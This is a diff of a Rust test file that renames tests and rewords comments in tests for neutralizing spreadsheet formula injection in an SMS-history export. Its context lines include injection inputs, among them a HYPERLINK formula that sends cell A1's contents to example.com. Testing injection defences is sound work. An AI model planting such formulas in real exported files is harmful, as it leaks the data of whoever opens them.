@@ -1,4 +1,4 @@
-//! Texts that a spreadsheet would take for formulas.
+//! Texts that a spreadsheet would evaluate as formulas.
 
 use proptest::prelude::*;
 use serde_json::{Value, json};
@@ -6,7 +6,7 @@ use voximplant_sms_history::export::{Column, ExportOptions, Format};
 
 use super::{export, text};
 
-/// The columns whose content other people choose, and the API's fields for them.
+/// The columns whose content other people control, with the API's field.
 const TEXTS: [(Column, &str); 6] = [
     (Column::SourceNumber, "source_number"),
     (Column::DestinationNumber, "destination_number"),
@@ -16,7 +16,7 @@ const TEXTS: [(Column, &str); 6] = [
     (Column::Text, "text"),
 ];
 
-/// The one cell of a file with one column and one row.
+/// Exports one column of one row, and returns the cell.
 fn cell(column: Column, row: &Value, neutralize_formulas: bool) -> String {
     let options = ExportOptions {
         columns: vec![column],
@@ -29,7 +29,7 @@ fn cell(column: Column, row: &Value, neutralize_formulas: bool) -> String {
 }
 
 #[test]
-fn every_kind_of_formula_in_every_text_column() {
+fn formulas_in_every_text_column_are_neutralized() {
     for formula in [
         "=1+1",
         "=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
@@ -66,7 +66,7 @@ fn every_kind_of_formula_in_every_text_column() {
 }
 
 #[test]
-fn what_is_no_formula_stays_as_it_is() {
+fn other_texts_are_not_changed() {
     for harmless in [
         "",
         "+15550100001",
@@ -88,7 +88,7 @@ fn what_is_no_formula_stays_as_it_is() {
 }
 
 #[test]
-fn own_numbers_and_dates_are_left_alone() {
+fn numbers_and_dates_are_not_changed() {
     let row = json!({ "cost": "-0.5", "message_id": 1, "processed_date": "2026-03-08 02:30:15" });
     assert_eq!(cell(Column::Cost, &row, true), "-0.5");
     assert_eq!(cell(Column::MessageId, &row, true), "1");
@@ -99,7 +99,7 @@ fn own_numbers_and_dates_are_left_alone() {
 }
 
 #[test]
-fn json_is_no_spreadsheet() {
+fn ndjson_is_not_neutralized() {
     let options = ExportOptions {
         format: Format::Ndjson,
         ..ExportOptions::default()
@@ -110,15 +110,15 @@ fn json_is_no_spreadsheet() {
 
 proptest! {
     #[test]
-    fn no_text_begins_like_a_formula(text in text(), (column, field) in prop::sample::select(&TEXTS)) {
-        // A word of the API's that is known is written in the library's own spelling.
+    fn no_neutralized_text_begins_like_a_formula(text in text(), (column, field) in prop::sample::select(&TEXTS)) {
+        // Known directions are written in the library's own spelling.
         prop_assume!(!["in", "out"].contains(&text.to_ascii_lowercase().as_str()));
         let row = json!({ field: text });
         let written = cell(column, &row, true);
         let dangerous = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']);
         let phone = written.strip_prefix('+').is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|byte| byte.is_ascii_digit()));
         prop_assert!(phone || !dangerous(&written));
-        // Nothing else has changed.
+        // Nothing else is changed.
         prop_assert_eq!(written.strip_prefix('\'').filter(|rest| dangerous(rest) && dangerous(&text)).unwrap_or(&written), &text);
     }
 }
